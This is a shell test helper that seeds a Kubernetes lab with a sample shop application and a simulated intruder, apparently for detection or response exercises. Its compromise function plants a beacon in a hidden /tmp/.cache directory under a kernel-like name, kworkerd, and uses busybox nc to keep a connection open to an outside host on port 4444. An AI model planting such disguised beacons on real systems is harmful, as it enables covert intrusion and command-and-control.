# Seeds a lab with the shop and its intruder. Sourced by tests/sandbox.

# seed [NAMESPACE]
seed() {
  local shop=${1:-shop}
  k() { inside "$D/bin/kubectl" --kubeconfig "$D/pki/admin.conf" "$@"; }
  sed "s/namespace: shop\\b/namespace: $shop/; /^kind: Namespace/,/^---/s/name: shop\\b/name: $shop/" "$here/shop.yaml" | k apply -f -
  local workload
  for workload in deployment/web deployment/api deployment/db deployment/client statefulset/queue daemonset/agent; do
    k -n "$shop" rollout status "$workload" --timeout 60s >/dev/null
  done
  k -n "$shop" wait --for condition=Ready pod/legacy pod/edge --timeout 60s >/dev/null
  k -n "$shop" wait --for condition=Ready pod -l app=nightly --timeout 60s >/dev/null

  local pod address
  pod=$(k -n "$shop" get pod -l app=web --sort-by .metadata.name -o jsonpath='{.items[0].metadata.name}')
  compromise "$pod"
  address=$(k -n "$shop" get pod "$pod" -o jsonpath='{.status.podIP}')
  echo "$pod" > "$D/compromised-$shop"
  k -n "$shop" get pods -o wide
  cat <<E

compromised: $shop/$pod ($address) sends a line each second to $INTERNET_IP:4444; see
  tail -f $D/log/outside.txt
E
}

# What an intruder leaves: a script under a name that looks like the kernel's, and a connection that stays open.
compromise() {
  k -n "$shop" exec "$1" -c web -- sh -c "pidof kworkerd >/dev/null && exit 0
mkdir -p /tmp/.cache; ln -sf /bin/busybox /tmp/.cache/nc
cat > /tmp/.cache/kworkerd <<'S'
#!/bin/sh
n=0
while :; do n=\$((n+1)); echo \"beacon \$HOSTNAME \$n\"; sleep 1; done | /tmp/.cache/nc $INTERNET_IP 4444
S
chmod 755 /tmp/.cache/kworkerd
setsid /tmp/.cache/kworkerd </dev/null >/dev/null 2>&1 &"
  local deadline=$((SECONDS + 15))
  until grep -q "beacon $1" "$D/log/outside.txt"; do
    [ $SECONDS -lt $deadline ] || { echo "the intruder in $1 does not reach $INTERNET_IP" >&2; return 1; }
    sleep 0.2
  done
}
